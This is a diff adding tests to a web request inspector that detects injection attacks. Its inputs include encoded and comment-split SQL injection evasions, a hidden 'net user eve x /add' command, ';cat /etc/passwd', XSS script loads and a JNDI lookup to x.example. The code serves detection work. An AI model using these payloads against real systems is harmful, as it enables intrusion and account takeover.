@@ -136,3 +136,35 @@ def test_without_re2_the_verdicts_are_the_same() -> None:
     plain = Inspector(Gate(SIGNATURES, compile_re_set))
     for query in ["q=1' or '1'='1", "q=O'Brien", "q=<svg/onload=x>", "a=;cat /etc/passwd", "q=red+shoes"]:
         assert plain.inspect({"query": query}) == inspect({"query": query})
+
+
+@pytest.mark.parametrize(
+    "query",
+    [
+        "q=1%2Bunion%2Bselect%2B1,2",  # the application decodes once more than its framework
+        "q=drop/*x*/table/*y*/users",
+        "q=1+un/**/ion+sel/**/ect+1,2",
+        "q=1%a0or%a01=1",
+        "q=1%C2%A0or%C2%A01%3D1",
+        "q=%EF%BC%87%20or%20%EF%BC%871%EF%BC%87%EF%BC%9D%EF%BC%871",
+        "q=%2525252527%25252520or%252525201=1--",
+        "q=x%26%20net%09user%20eve%20x%20/add",
+    ],
+)
+def test_a_disguise_is_seen_through_in_a_form(query: str) -> None:
+    assert inspect({"query": query}) != []
+
+
+@pytest.mark.parametrize("secret", ["4111111111111111", "4111 1111 1111 1111", "alice.smith@example.com"])
+@pytest.mark.parametrize("shift", range(1, 16))
+def test_evidence_is_not_cut_in_the_midst_of_what_would_be_scrubbed(secret: str, shift: int) -> None:
+    payload = ("' or 1=1-- " + "; " * 60)[: 120 - shift] + secret
+    (threat,) = inspect({"query": payload})
+    assert not any(letter in threat.evidence[10:] for letter in "41ace")
+
+
+def test_what_stands_in_a_letter_by_chance_is_no_attack_and_what_nobody_writes_by_chance_is_one() -> None:
+    letter = "Dear all, here is what we have said:\n'cat' or 'dog' = 2 | echo\n{}\nBest, O'Brien"
+    assert inspect({"body": {"text": letter.format("see you soon")}}) == []
+    for attack in ("<script src=//x.example>", "x' union select 1,2--", "${jndi:ldap://x.example/a}"):
+        assert inspect({"body": {"text": letter.format(attack)}}) != [], attack
